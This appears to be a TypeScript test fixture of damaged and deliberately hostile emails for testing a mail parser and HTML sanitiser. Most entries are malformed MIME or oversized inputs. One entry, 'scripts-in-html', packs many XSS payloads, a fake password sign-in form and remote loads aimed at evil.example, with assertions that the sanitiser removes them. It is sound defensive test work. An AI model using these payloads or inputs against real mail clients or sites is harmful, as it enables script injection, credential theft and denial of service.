/** Mail that is broken, and mail that is made to break readers. */

import { base64, type CorpusMail, eml, letter } from './corpus-mail.ts';

export const DAMAGED: readonly CorpusMail[] = [
  {
    name: 'no-header-at-all',
    source: () => eml('\nJust a text.\nWith two lines.\n'),
    parsed: {
      rfcId: null,
      from: null,
      to: [],
      subject: null,
      visibleText: 'Just a text.\nWith two lines.',
      isDamaged: true,
    },
  },
  {
    name: 'header-alone',
    source: () => eml('From: cleo@customer.example\nSubject: Nothing'),
    parsed: {
      rfcId: null,
      from: { address: 'cleo@customer.example', name: null },
      to: [],
      subject: 'Nothing',
      visibleText: '',
    },
  },
  {
    name: 'no-blank-line-before-the-body',
    source: () =>
      eml('From: cleo@customer.example\nSubject: Short\nHello there.\nSecond line.\n\nThird line.\n'),
    parsed: {
      rfcId: null,
      from: { address: 'cleo@customer.example', name: null },
      to: [],
      subject: 'Short',
      visibleText: 'Hello there.\nSecond line.\n\nThird line.',
      isDamaged: true,
    },
  },
  {
    name: 'junk-between-headers',
    source: () => letter('junk-between-headers', { Subject: 'Order 17\nthis line is no header' }, 'Hello.\n'),
    parsed: { visibleText: 'Hello.', isDamaged: true },
  },
  {
    name: 'line-feeds-alone',
    source: () =>
      Buffer.from(
        letter(
          'line-feeds-alone',
          { 'Content-Type': 'multipart/mixed; boundary=lf' },
          '--lf\n\nOne.\n--lf\nContent-Type: application/pdf; name=a.pdf\n\n%PDF\n--lf--\n',
        )
          .toString('latin1')
          .replace(/\r\n/g, '\n'),
        'latin1',
      ),
    parsed: { visibleText: 'One.', attachments: [['a.pdf', 'application/pdf', 4]] },
  },
  {
    name: 'line-of-a-mailbox-file',
    source: () =>
      Buffer.concat([
        eml('From cleo@customer.example Fri Nov 20 10:30:00 2026\n'),
        letter('line-of-a-mailbox-file', {}, 'Hello.\n'),
      ]),
    parsed: { visibleText: 'Hello.' },
  },
  {
    name: 'no-boundary',
    source: () =>
      letter(
        'no-boundary',
        { 'Content-Type': 'multipart/mixed' },
        '--x\nContent-Type: text/plain\n\nHello.\n--x--\n',
      ),
    parsed: { visibleText: /Hello\./, isDamaged: true },
  },
  {
    name: 'boundary-that-never-comes',
    source: () =>
      letter('boundary-that-never-comes', { 'Content-Type': 'multipart/mixed; boundary=never' }, 'Hello.\n'),
    parsed: { visibleText: 'Hello.', isDamaged: true },
  },
  {
    name: 'no-last-boundary',
    source: () =>
      letter(
        'no-last-boundary',
        { 'Content-Type': 'multipart/mixed; boundary=cut' },
        `--cut\n\nHello.\n--cut\nContent-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\n${base64('%PDF-1.7 whole').slice(0, 11)}`,
      ),
    parsed: { visibleText: 'Hello.', attachments: [['a.pdf', 'application/pdf', 8]], isDamaged: true },
  },
  {
    name: 'boundaries-that-begin-alike',
    source: () =>
      letter(
        'boundaries-that-begin-alike',
        { 'Content-Type': 'multipart/mixed; boundary="a"' },
        `
--a
Content-Type: multipart/alternative; boundary="a-b"

--a-b

Plain --a
--aa
-- a
--a-b
Content-Type: text/html

<p>Plain --a</p>
--a-b--
--a  
Content-Type: application/pdf; name=a.pdf

%PDF
--a--
Epilogue that is nothing.
`,
      ),
    parsed: {
      visibleText: 'Plain --a\n--aa\n-- a',
      html: { has: [/<p>Plain --a/] },
      attachments: [['a.pdf', 'application/pdf', 4]],
    },
  },
  {
    name: 'inner-boundary-missing-its-end',
    source: () =>
      letter(
        'inner-boundary-missing-its-end',
        { 'Content-Type': 'multipart/mixed; boundary=out' },
        '--out\nContent-Type: multipart/alternative; boundary=in\n\n--in\n\nInner.\n--out\nContent-Type: application/pdf; name=a.pdf\n\n%PDF\n--out--\n',
      ),
    parsed: { visibleText: 'Inner.', attachments: [['a.pdf', 'application/pdf', 4]] },
  },
  {
    name: 'nonsense-in-every-header',
    source: () =>
      letter(
        'nonsense-in-every-header',
        {
          From: '<<>>,;:@',
          To: ',,,',
          Date: 'yesterday',
          'Message-ID': '<>',
          References: '<<<a@b> c',
          'Content-Type': '////; charset',
          'Content-Transfer-Encoding': 'x-uuencode; 8',
        },
        'Hello.\n',
      ),
    parsed: { rfcId: null, from: null, to: [], references: ['a@b'], visibleText: 'Hello.' },
  },
  {
    name: 'ids-without-brackets',
    source: () =>
      letter(
        'ids-without-brackets',
        { 'Message-ID': 'bare@customer.example', References: 'a@b c@d' },
        'Hello.\n',
      ),
    parsed: { rfcId: 'bare@customer.example', references: ['a@b', 'c@d'], visibleText: 'Hello.' },
  },
  {
    name: 'encoded-multipart',
    source: () =>
      letter(
        'encoded-multipart',
        { 'Content-Type': 'multipart/mixed; boundary=enc', 'Content-Transfer-Encoding': 'quoted-printable' },
        '--enc\n\na=3Db stays.\n--enc--\n',
      ),
    parsed: { visibleText: 'a=3Db stays.' },
  },
  {
    name: 'more-attachments-than-a-message-has',
    source: () =>
      letter(
        'more-attachments-than-a-message-has',
        { 'Content-Type': 'multipart/mixed; boundary=many' },
        `--many\n\nMany.\n${Array.from({ length: 22 }, (_, index) => `--many\nContent-Type: image/gif; name=${index}.gif\n\nx\n`).join('')}--many--\n`,
      ),
    parsed: {
      visibleText: 'Many.',
      attachments: Array.from({ length: 20 }, (_, index) => [`${index}.gif`, 'image/gif', 1] as const),
      isDamaged: true,
    },
  },
  {
    name: 'scripts-in-html',
    source: () =>
      letter(
        'scripts-in-html',
        { 'Content-Type': 'text/html; charset=utf-8' },
        `
<p onclick="alert(1)" style="position:fixed;top:0;color:red;background-image:url(http://evil.example/x);width:expression(alert(1))">Hello</p>
<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script></svg>
<a href="javascript:alert(1)">one</a> <a href="&#106;avascript:alert(1)">two</a> <a href="java	script:alert(1)">three</a>
<a href="data:text/html,<script>alert(1)</script>">four</a> <a href="vbscript:x">five</a> <a href="//evil.example/">six</a>
<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/">
<form action="https://evil.example/"><input name=password><button>Sign in</button></form>
<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"; body{display:none}</style>
<meta http-equiv=refresh content="0;url=https://evil.example/"><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:image/png;base64,AAAA"><img srcset="https://evil.example/x 2x" src="https://evil.example/p.png">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><table background="https://evil.example/b"><tr><td>cell</td></tr></table>
<!--[if mso]><script>alert(1)</script><![endif]--><textarea><img src=x onerror=alert(1)></textarea><b>End`,
      ),
    parsed: {
      text: /^Hello\n/,
      visibleText: /End$/,
      html: {
        has: [
          /<p style="color:red">Hello<\/p>/,
          /<img data-remote-src="https:\/\/evil\.example\/p\.png" \/>/,
          /src="data:image\/png;base64,AAAA"/,
          /<b>End<\/b>/,
        ],
        hasNot: [
          /alert|javascript|vbscript|expression|position|url\(|srcset|svg|iframe|<form|<input|<button|<style|<link|<meta|<base|onerror|background=/i,
          /href="\/\/|(?<!data-remote-)src="https?:/,
        ],
      },
    },
  },
  {
    name: 'html-entities-and-blocks',
    source: () =>
      letter(
        'html-entities-and-blocks',
        { 'Content-Type': 'text/html' },
        '<title>No title</title><h1>A &amp; B</h1><p>1 &lt; 2&nbsp;&nbsp;&copy;<br>next<pre>  kept\n   as is</pre><p>&lt;script&gt;</p><div>a</div><div>b<br></div><blockquote>quoted <p>twice</p></blockquote>after',
      ),
    parsed: {
      visibleText:
        /^A & B\n\n1 < 2 ©\nnext\n\n {2}kept\n {3}as is\n\n<script>\n\na\nb\n\n> quoted\n>\n> twice\n\nafter$/,
      html: { has: [/&lt;script&gt;/], hasNot: [/<script/] },
    },
  },
  {
    name: 'hundred-thousand-headers',
    source: () =>
      Buffer.concat([
        letter('hundred-thousand-headers', {}, '').subarray(0, -2),
        eml(Array.from({ length: 100_000 }, (_, index) => `X-Header-${index}: value\n`).join('')),
        eml('\n\nHello.\n'),
      ]),
    parsed: { visibleText: 'Hello.', isDamaged: true },
  },
  {
    name: 'ten-thousand-multiparts-in-each-other',
    source: () =>
      letter(
        'ten-thousand-multiparts-in-each-other',
        { 'Content-Type': 'multipart/mixed; boundary=b0' },
        [
          ...Array.from(
            { length: 10_000 },
            (_, index) => `--b${index}\nContent-Type: multipart/mixed; boundary=b${index + 1}\n`,
          ),
          '--b10000\n\nDeep.\n--b0\n\nHello.\n--b0--\n',
        ].join('\n'),
      ),
    parsed: { visibleText: 'Hello.', isDamaged: true },
  },
  {
    name: 'ten-thousand-parts',
    source: () =>
      letter(
        'ten-thousand-parts',
        { 'Content-Type': 'multipart/mixed; boundary=p' },
        `--p\n\nHello.\n${'--p\nContent-Type: image/gif\n\n\n'.repeat(10_000)}--p--\n`,
      ),
    parsed: { visibleText: 'Hello.', isDamaged: true },
  },
  {
    name: 'one-line-of-five-megabytes',
    source: () => letter('one-line-of-five-megabytes', {}, `Hello. ${'x'.repeat(5_000_000)}`),
    parsed: { text: /^Hello\. x{199993}$/, visibleText: /^Hello\. x{39993}$/, isDamaged: true },
  },
  {
    name: 'lines-that-are-nearly-boundaries',
    source: () =>
      letter(
        'lines-that-are-nearly-boundaries',
        { 'Content-Type': `multipart/mixed; boundary=${'q'.repeat(70)}` },
        `--${'q'.repeat(70)}\n\nHello.\n${`--${'q'.repeat(69)}\n`.repeat(20_000)}--${'q'.repeat(70)}--\n`,
      ),
    parsed: { text: /^Hello\./, visibleText: /^Hello\./, isDamaged: true },
  },
  {
    name: 'tags-without-an-end',
    source: () =>
      letter(
        'tags-without-an-end',
        { 'Content-Type': 'text/html' },
        `<p>Hello.</p>${'<div>'.repeat(100_000)}${'</span>'.repeat(50_000)}`,
      ),
    parsed: { visibleText: 'Hello.', html: { has: [/Hello/], hasNot: [/<p>/] }, isDamaged: true },
  },
  {
    name: 'addresses-without-an-end',
    source: () =>
      letter(
        'addresses-without-an-end',
        {
          To: `support@harbor.example,\n ${'<((("a: '.repeat(20_000)}`,
          'X-Words': '=?utf-8?Q?a?= =?a?q?'.repeat(10_000),
        },
        'Hello.\n',
      ),
    parsed: {
      to: [{ address: 'support@harbor.example', name: null }],
      visibleText: 'Hello.',
      isDamaged: true,
    },
  },
  {
    name: 'lists-and-links-in-each-other',
    source: () =>
      letter(
        'lists-and-links-in-each-other',
        { 'Content-Type': 'text/html' },
        `<p>Hello.</p>${'<ul><li>'.repeat(900)}low${'</li></ul>'.repeat(900)}` +
          `${'<a href="https://a.example/b">'.repeat(1_900)}tide${'</a>'.repeat(1_900)}`,
      ),
    parsed: {
      visibleText: /^Hello\./,
      text: /^Hello\.\n\n(-\n\n){899}- low\n\ntide/,
      html: { has: [/low/, /tide/] },
    },
  },
];
